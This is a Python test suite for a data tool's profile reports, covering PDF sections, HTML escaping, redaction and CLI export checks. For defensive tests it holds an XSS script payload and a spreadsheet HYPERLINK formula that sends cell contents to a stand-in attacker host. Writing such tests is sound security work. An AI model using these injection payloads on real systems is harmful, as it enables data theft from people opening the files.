"""Profile reports: the PDF opens and has its sections; the HTML page stands alone."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest
from pypdf import PdfReader
from sklearn.datasets import load_breast_cancer

from core.cli.main import main
from core.data.profiling import profile_table
from core.data.report import render_html
from core.data.report_pdf import SECTIONS, render_pdf


@pytest.fixture(scope="module")
def profile():  # type: ignore[no-untyped-def]
    data = load_breast_cancer(as_frame=True).frame
    data["leak"] = data["target"] * 10 + 3
    data["grade <i>&"] = np.where(data["mean radius"] > 14, "high <b>&", "low")
    data["email"] = [f"p{i}@example.com" for i in range(len(data))]
    return profile_table(pa.Table.from_pandas(data, preserve_index=False), target="target")


def test_pdf_opens_with_every_section_and_the_alerts_ranked(profile) -> None:  # type: ignore[no-untyped-def]
    reader = PdfReader(io.BytesIO(render_pdf(profile, "Profile of cancer@1")))
    assert [o.title for o in reader.outline] == list(SECTIONS)
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "Profile of cancer@1" in text and "569" in text
    assert "possible target leakage" in text and "leak" in text
    assert "grade <i>&" in text  # escaped, printed as written
    assert "p0@example.com" not in text  # redacted values stay redacted
    severities = [a.severity for a in profile.alerts]
    assert severities[0] == "high" and len(set(severities)) > 1
    alerts_page = text[text.index("\nAlerts\n"):]
    where = [alerts_page.find(a.message[:18]) for a in profile.alerts]
    assert -1 not in where and where == sorted(where)  # most severe first, as in the profile
    assert text.count("Rows\n") + text.count("Rows ") >= 10  # axis labels of histograms and bar charts
    assert "Association strength" in text  # the heatmap's colour key


def test_pdf_without_target_has_no_target_section() -> None:
    prof = profile_table(pa.table({"x": [1.0, 2.0, 3.0, 4.0], "y": [2.0, 4.0, 6.0, 9.0]}))
    reader = PdfReader(io.BytesIO(render_pdf(prof, "small")))
    assert "Target associations" not in [o.title for o in reader.outline]


def test_html_has_no_external_references(profile) -> None:  # type: ignore[no-untyped-def]
    page = render_html(profile, "cancer <1>")
    assert not re.findall(r"""(?:src|href)\s*=""", page, flags=re.IGNORECASE)
    assert not re.search(r"https?:|//[a-z]|url\(|@import|<script|<link|<iframe|<image", page, flags=re.IGNORECASE)
    assert page.count("<svg") >= 10 and "association heatmap" in page and "cancer &lt;1&gt;" in page
    assert 'aria-label="most frequent values of grade &lt;i&gt;&amp;"' in page  # a bar chart for a category


def test_cli_writes_pdf(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from core.api import Engine

    ws = tmp_path / "w.airlock"
    Engine.create(ws, name="T", passphrase="correct horse", use_keyring=False)[0].close()
    monkeypatch.setenv("AIRLOCK_WORKSPACE", str(ws))
    monkeypatch.setenv("AIRLOCK_PASSPHRASE", "correct horse")
    csv = tmp_path / "d.csv"
    csv.write_text("a,b,y\n" + "".join(f"{i},{i % 7},{i % 2}\n" for i in range(300)))
    assert main(["data", "import", str(csv), "--name", "d"]) == 0
    out = tmp_path / "r.pdf"
    assert main(["data", "profile", "d", "--target", "y", "--pdf", str(out)]) == 0
    reader = PdfReader(out)
    assert "Target associations" in [o.title for o in reader.outline]
    assert "Profile of d@1" in reader.pages[0].extract_text()


# --- as a user reads them: labels, numbers, escaping ------------------------------------------

FIELD_NAMES = ("q0.01", "q0.5", "q0.99", "min_length", "mean_length", "max_length", "negatives", "_length", "roc_auc")


@pytest.fixture(scope="module")
def wine():  # type: ignore[no-untyped-def]
    """scikit-learn's wine data, a made-up name column (unique per row) and a year column."""
    from tests.core.data.real_data import frame

    data = frame("wine")
    rng = np.random.default_rng(7)
    first = ["Ada", "Ben", "Chloé", "Dev", "Eun", "Femi", "Gus", "Hana", "Ivo", "Jun", "Kai", "Lea", "Mo"]
    data["customer name"] = [f"{first[i % 13]} {first[(i * 5) % 13]}son-{i}" for i in range(len(data))]
    data["vintage"] = rng.integers(1995, 2021, len(data))
    return profile_table(pa.Table.from_pandas(data, preserve_index=False), target="target")


def _pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_reports_use_human_labels_and_rounded_numbers(wine) -> None:  # type: ignore[no-untyped-def]
    from core.data.report import ReportInfo

    info = ReportInfo("Profile of wine@1", "wine@1", "/data/wine.csv")
    page = render_html(wine, info)
    pdf = _pdf_text(render_pdf(wine, info))
    visible = re.sub(r"<[^>]+>", " ", page)
    for text in (visible, pdf):
        assert not [f for f in FIELD_NAMES if f in text]
        assert "wine@1" in text and "/data/wine.csv" in text and "Generated" in text
    for label in ("1st percentile", "Median", "Standard deviation", "Shortest text", "Longest text", "Distinct values"):
        assert label in visible
    assert "Median" in pdf and "1st to 99th percentile" in pdf and "standard deviation" in pdf
    # Four significant digits: wine's alcohol mean 13.0006… reads 13; its magnesium sd 14.28…
    col = wine.column("magnesium")
    assert f"{col.stats['std']:.4g}" in visible and repr(col.stats["std"]) not in visible
    # Years keep no thousands separator, counts do.
    years = wine.column("vintage")
    assert str(int(years.stats["min"])) in visible and f"{int(years.stats['min']):,}" not in visible
    assert "178" in visible
    if any(a.p_value is not None for a in wine.target_associations):  # permutation p-values, where the profile has them
        assert "Chance by luck" in visible and "Chance by luck" in pdf
    # Every chart has axis labels (rows against values; the heatmap its colour key).
    svgs = re.findall(r"<svg.*?</svg>", page, flags=re.DOTALL)
    assert len(svgs) == len(wine.columns)  # every number a histogram, the heatmap; the names (unique) none
    assert all(">Rows</text>" in g or "Association strength" in g for g in svgs)


def test_report_says_exactly_what_it_holds(wine) -> None:  # type: ignore[no-untyped-def]
    pdf = _pdf_text(render_pdf(wine, "wine"))
    flat = " ".join(pdf.split())
    assert "holds no raw rows" not in flat
    assert "aggregates" in flat and "most frequent values" in flat and "no whole rows" in flat
    assert "Ada Adason-0" not in flat  # a name unique per row is never listed as a frequent value


def test_html_escapes_every_text_from_the_data() -> None:
    evil = "<script>alert(1)</script>"
    odd = "a&b<c>d\"e'f"
    prof = profile_table(pa.table({evil: [odd, odd, "x", "x", "y"] * 20, "n": list(range(100))}))
    page = render_html(prof, f"Profile of {evil}")
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "a&amp;b&lt;c&gt;d&quot;e&#x27;f" in page
    assert odd not in page


def test_csv_exports_neutralise_formulas() -> None:
    import csv
    import dataclasses

    from core.assessment.answer_file import template_csv
    from core.assessment.catalogue import builtin_models
    from core.reports.cells import safe_cell

    for start in "=+-@\t\r":
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(-3) == -3 and safe_cell("plain") == "plain" and safe_cell(None) is None
    model = builtin_models()[0]
    dim = model.dimensions[0]
    q = dataclasses.replace(dim.questions[0], text='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    model = dataclasses.replace(model, dimensions=(dataclasses.replace(dim, questions=(q, *dim.questions[1:])),
                                                   *model.dimensions[1:]))
    rows = list(csv.reader(io.StringIO(template_csv(model))))
    cell = next(r[2] for r in rows if r[0] == q.id)
    assert cell.startswith("'=HYPERLINK(")


def test_target_sample_matches_the_profile() -> None:
    from core.data import associations, report

    assert report.TARGET_SAMPLE == associations.TARGET_SAMPLE


def test_heatmap_of_a_wide_profile_keeps_the_strongest_columns() -> None:
    from core.data.report import HEATMAP_MAX, association_matrix, heatmap_chart

    rng = np.random.default_rng(3)
    base = rng.normal(size=400)
    cols = {f"noise{i}": rng.normal(size=400) for i in range(30)}
    cols |= {f"linked{i}": base + rng.normal(scale=0.3, size=400) for i in range(5)}
    prof = profile_table(pa.table(cols))
    names, matrix = association_matrix(prof)
    assert len(names) == HEATMAP_MAX and {f"linked{i}" for i in range(5)} <= set(names)
    linked = sorted(names.index(f"linked{i}") for i in range(5))
    assert linked == list(range(linked[0], linked[0] + 5))  # related columns sit together
    chart, note = heatmap_chart(prof)  # type: ignore[misc]
    assert f"Only the {HEATMAP_MAX} of 35 columns" in note


# --- exports from the command line: refused, checked, owner-only, quiet on a closed pipe ------


@pytest.fixture
def cli_workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    from core.api import Engine

    ws = tmp_path / "w.airlock"
    Engine.create(ws, name="T", passphrase="correct horse", use_keyring=False)[0].close()
    monkeypatch.setenv("AIRLOCK_WORKSPACE", str(ws))
    monkeypatch.setenv("AIRLOCK_PASSPHRASE", "correct horse")
    csv = tmp_path / "d.csv"
    csv.write_text("a,b,y\n" + "".join(f"{i},{i % 7},{i % 2}\n" for i in range(300)))
    assert main(["data", "import", str(csv), "--name", "d"]) == 0
    return ws


@pytest.mark.parametrize("fmt", ["html", "pdf"])
def test_cli_reports_are_owner_only(cli_workspace: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"r.{fmt}"
    assert main(["data", "profile", "d", f"--{fmt}", str(out)]) == 0
    assert out.stat().st_mode & 0o777 == 0o600
    assert out.read_bytes().startswith(b"%PDF" if fmt == "pdf" else b"<!DOCTYPE html>")


def test_cli_refuses_a_report_on_a_read_only_open(cli_workspace: Path, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "r.html"
    capsys.readouterr()
    assert main(["--read-only", "data", "profile", "d", "--html", str(out)]) == 2
    err = capsys.readouterr().err
    assert "read-only" in err and "Reopen it without --read-only" in err
    assert not out.exists() and not list(tmp_path.glob(".r.html*"))


def test_cli_refuses_a_missing_folder_before_any_work(cli_workspace: Path, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    from core.api import Engine, Unlock

    capsys.readouterr()
    assert main(["data", "profile", "d", "--pdf", str(tmp_path / "nowhere" / "r.pdf")]) == 2
    err = capsys.readouterr().err
    assert "nowhere" in err and "does not exist" in err and "internal" not in err
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    if not os.access(locked, os.W_OK):  # root may write anywhere
        assert main(["data", "profile", "d", "--html", str(locked / "r.html")]) == 2
        assert "not writable" in capsys.readouterr().err
    with Engine.open(cli_workspace, Unlock.with_passphrase("correct horse")) as engine:
        assert engine.datasets.stored_profile("d") is None  # refused before the profile ran


def test_cli_ends_quietly_when_the_reader_goes_away(cli_workspace: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[3])}
    child = subprocess.Popen([sys.executable, "-m", "core.cli.main", "--json", "data", "profile", "d"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    assert child.stdout is not None and child.stderr is not None
    child.stdout.close()  # like `| head -1` that stopped reading: every write now fails
    err = child.stderr.read().decode()
    code = child.wait(timeout=120)
    assert code in (0, 141), err
    assert "Traceback" not in err and "BrokenPipe" not in err and "internal error" not in err
